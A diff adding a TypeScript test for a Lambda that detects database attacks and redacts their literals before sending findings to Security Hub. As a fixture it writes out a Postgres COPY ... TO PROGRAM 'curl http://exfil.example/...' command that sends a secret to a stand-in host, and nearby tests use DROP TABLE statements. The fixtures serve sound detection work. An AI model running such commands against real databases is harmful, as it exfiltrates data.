@@ -288,6 +288,38 @@ describe('DETECT=true in the Lambda, findings to Security Hub', () => {
   });
 });
 
+describe('DETECT=true with REDACT=true', () => {
+  it('finds an attack that lives in a literal, and neither its ASFF nor the window state carries the literal', async () => {
+    const PROGRAM_ID = '6eb730b1-0619-4ddc-9e28-9c3b9da40787';
+    const SECRET = 'zebra-literal-7';
+    // Failed logins whose statements quote a secret: the burst's evidence is kept in the state between invocations.
+    const quoting = (n: number) => ({ ...failedLogin(n, 'redacted-dave'), commandText: `SELECT '${SECRET}'` });
+    const event = await eventWith('detect-redact', [
+      [postgresEvent(1, { commandText: `COPY t TO PROGRAM 'curl http://exfil.example/${SECRET}'` }), quoting(2), quoting(3)],
+      [quoting(4)],
+    ]);
+    const [first, second] = event.Records.map((record) => ({ Records: [record] }));
+    const env = detectEnv({ REDACT: 'true', BUILTIN_RULES: 'true' });
+    const programBefore = heldBy(PROGRAM_ID).length;
+    const burstBefore = heldBy(BURST_ID).length;
+
+    const one = await instance(env).invoke(windowed(first as KinesisStreamEvent, undefined));
+    expect(one.batchItemFailures).toEqual([]);
+    expect(heldBy(PROGRAM_ID).length - programBefore).toBe(1);
+    const state = String(one.state?.[STATE_KEY]);
+    expect(state).toContain('SELECT ?');
+    expect(state).not.toContain(SECRET);
+
+    const two = await instance(env).invoke(windowed(second as KinesisStreamEvent, one.state));
+    expect(two.batchItemFailures).toEqual([]);
+    expect(heldBy(BURST_ID).length - burstBefore).toBe(1);
+    expect(JSON.stringify(two.state)).not.toContain(SECRET);
+    const shown = JSON.stringify([...heldBy(PROGRAM_ID).slice(programBefore), ...heldBy(BURST_ID).slice(burstBefore)]);
+    expect(shown).not.toContain(SECRET);
+    expect(shown).not.toContain('exfil.example');
+  });
+});
+
 describe('DETECT=true in the Lambda, findings to EventBridge', () => {
   it('puts each finding on the bus as an event of at most 10 a call, its detail as Security Hub words its own', async () => {
     const drops = Array.from({ length: 23 }, (_, n) => postgresEvent(n + 1, { commandText: `DROP TABLE e${n}` }));
